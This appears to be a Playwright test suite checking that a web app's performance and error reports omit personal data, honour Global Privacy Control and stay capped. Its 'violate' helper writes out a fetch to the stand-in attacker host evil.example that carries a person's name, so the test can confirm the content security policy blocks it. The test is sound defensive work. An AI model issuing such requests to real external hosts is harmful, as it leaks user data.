import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { test as base, expect, signIn } from '../fixtures';
import { type WithReporting, withReporting } from '../reporting';
import { addMember, createAccount, createGroup, services } from './services';

const test = base.extend<object, WithReporting>(withReporting);

const codeIn = (folder: string) =>
  readdirSync(join(folder, 'assets'))
    .filter((name) => name.endsWith('.js'))
    .map((name) => readFileSync(join(folder, 'assets', name), 'utf8'))
    .join('\n');

test('without an address, a build has no code that reports, and sends nothing', async ({
  page,
  baseURL,
  reporting,
}) => {
  // The markers are texts that occur only in web-vitals and in the app's code for reports.
  const [withAddress, without] = [codeIn(reporting.dist), codeIn('dist-live')];
  for (const marker of ['largest-contentful-paint', 'securitypolicyviolation', 'globalPrivacyControl', 'sendReports']) {
    expect(withAddress).toContain(marker);
    expect(without).not.toContain(marker);
  }
  const asked = new Set<string>();
  page.context().on('request', (request) => asked.add(new URL(request.url()).origin));
  await signIn(page, await createAccount());
  await page.goto('about:blank');
  await page.goto('/find-group');
  await expect(page.getByRole('button', { name: 'SEARCH', exact: true })).toBeVisible();
  expect([...asked].filter((origin) => origin !== 'null').sort()).toEqual([services, baseURL]);
});

test.describe('with an address', () => {
  test.use({
    baseURL: ({ reporting }, use) => use(reporting.origin),
    // Errors that the test causes on purpose.
    allowedErrors: [/Content Security Policy|TypeError: .*zebediah/],
  });

  test.beforeEach(({ reporting }) => {
    reporting.received.length = 0;
  });

  test('a visit is reported in numbers and words of the app, with nothing of a person', async ({ page, reporting }) => {
    const { received, origin, dist } = reporting;
    const owner = await createAccount();
    const groupId = await createGroup(owner, { groupName: 'Quuxville Comets' });
    await addMember(groupId, 'zebediah-uid', 'Zebediah Quuxman');
    // Cookies ignore the port, so the browser could send this cookie to the receiver of the reports, on another port.
    await page.context().addCookies([{ name: 'person', value: 'zebediah', url: origin }]);
    await page.route('**/payment-status', (route) =>
      route.fulfill({ status: 503, json: { message: `Zebediah is blocked by ${owner.email}.` } }),
    );

    await signIn(page, owner);
    await untilMeasuring(page);
    await page.goto(`/Manage-group/${groupId}?tab=members&token=zebediah-token#zebediah@example.com`);
    await untilMeasuring(page);
    await page.getByRole('button', { name: 'Paid', exact: true }).click();
    await expect(page.getByText('Marking Zebediah Quuxman paid…')).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page.getByText("Couldn't mark the payment for Zebediah Quuxman. Try again.")).toBeVisible();
    await violate(page);
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          window.addEventListener('error', resolve, { once: true });
          setTimeout(() => {
            throw new TypeError('zebediah@example.com is not a function');
          });
        }),
    );
    await page.goto('about:blank');

    await expect.poll(() => received.length).toBe(2);
    const [build] = /(?<=\/assets\/index-)[\w-]{8}(?=\.js)/.exec(readFileSync(join(dist, 'index.html'), 'utf8')) ?? [];
    const connection = expect.stringMatching(/^(slow-2g|2g|3g|4g)$/);
    const sent = { v: 1, build, connection, vitals: expect.anything(), failures: {}, violations: {} };
    const [atSignIn, atGroup] = received.map(({ body }) => JSON.parse(body));
    expect(atSignIn).toEqual({ ...sent, landing: '/login', route: '/find-group' });
    expect(atGroup).toEqual({
      ...sent,
      landing: '/Manage-group/:groupId',
      route: '/Manage-group/:groupId',
      failures: { 'setPaymentStatus 503': 1, 'uncaught TypeError': 1 },
      violations: { 'connect-src foreign': 1 },
    });
    const number = expect.any(Number);
    // INP may be missing, because the browser may not have measured the press yet.
    for (const { vitals } of [atSignIn, atGroup])
      expect({ INP: 0, ...vitals }).toEqual({ CLS: number, FCP: number, INP: number, LCP: number, TTFB: number });

    for (const { method, url, headers } of received) {
      expect([method, url, headers['content-type']]).toEqual(['POST', '/reports', 'text/plain;charset=UTF-8']);
      expect(['null', origin]).toContain(headers.origin);
      for (const name of ['cookie', 'referer', 'authorization']) expect(headers).not.toHaveProperty(name);
    }
    const all = JSON.stringify(received).toLowerCase();
    for (const mark of [owner.email, owner.uid, owner.password, groupId, 'zebediah', 'quux', 'olga', 'owens', 'evil'])
      expect(all).not.toContain(mark.toLowerCase());
  });

  test('later reports of a visit tell only what has gone wrong since, and are 20 at most', async ({
    page,
    reporting,
  }) => {
    const { received, url } = reporting;
    await page.goto('/login');
    await untilMeasuring(page);
    await leaveAndReturn(page);
    await leaveAndReturn(page);
    await violate(page);
    await leaveAndReturn(page);
    await expect.poll(() => received.length).toBe(2);
    const reports = received.map(({ body }) => JSON.parse(body));
    expect(reports.map(({ vitals, violations }) => [typeof vitals, violations])).toEqual([
      ['object', {}],
      ['undefined', { 'connect-src foreign': 1 }],
    ]);

    for (let fault = 0; fault < 25; fault += 1) {
      await page.evaluate(() => window.dispatchEvent(new ErrorEvent('error', { error: new RangeError() })));
      await leaveAndReturn(page);
      if (fault < 18) await expect.poll(() => received.length).toBe(3 + fault);
    }
    await page.evaluate((address) => fetch(address, { mode: 'no-cors' }), `${url}?after`);
    await expect.poll(() => received.at(-1)?.url).toBe('/reports?after');
    expect(received).toHaveLength(21);
  });

  test('a person who objects to being measured is not', async ({ page, browser, reporting }) => {
    const { received, origin } = reporting;
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    await page.addInitScript(() => Object.assign(Navigator.prototype, { globalPrivacyControl: true }));
    await page.goto('/login');
    await expect(page.getByRole('button', { name: 'Login', exact: true })).toBeVisible();
    await page.waitForLoadState('networkidle');
    await page.goto('about:blank');

    const other = await browser.newPage();
    await other.goto(`${origin}/register`);
    await untilMeasuring(other);
    await other.goto('about:blank');
    await expect.poll(() => received.length).toBe(1);
    expect(JSON.parse(received[0]?.body ?? '')).toMatchObject({ landing: '/register' });
    expect(asked.filter((url) => /sendReports|\/reports/.test(url))).toEqual([]);
    await other.close();
  });
});

/** Waits for both requests for the script that measures: the app first fetches the script, and then imports it. */
const untilMeasuring = async (page: Page) => {
  const loads = () => performance.getEntriesByType('resource').filter(({ name }) => name.includes('/sendReports-'));
  await expect.poll(async () => (await page.evaluate(loads)).length).toBe(2);
};

/** Makes a request that the content security policy blocks. */
const violate = (page: Page) =>
  page.evaluate(
    () =>
      new Promise((resolve) => {
        window.addEventListener('securitypolicyviolation', resolve, { once: true });
        fetch('https://evil.example/?zebediah').catch(() => undefined);
      }),
  );

/** Simulates that the person switches to another tab and comes back. */
const leaveAndReturn = (page: Page) =>
  page.evaluate(() => {
    for (const visibilityState of ['hidden', 'visible']) {
      Object.defineProperty(document, 'visibilityState', { configurable: true, value: visibilityState });
      document.dispatchEvent(new Event('visibilitychange', { bubbles: true }));
    }
  });
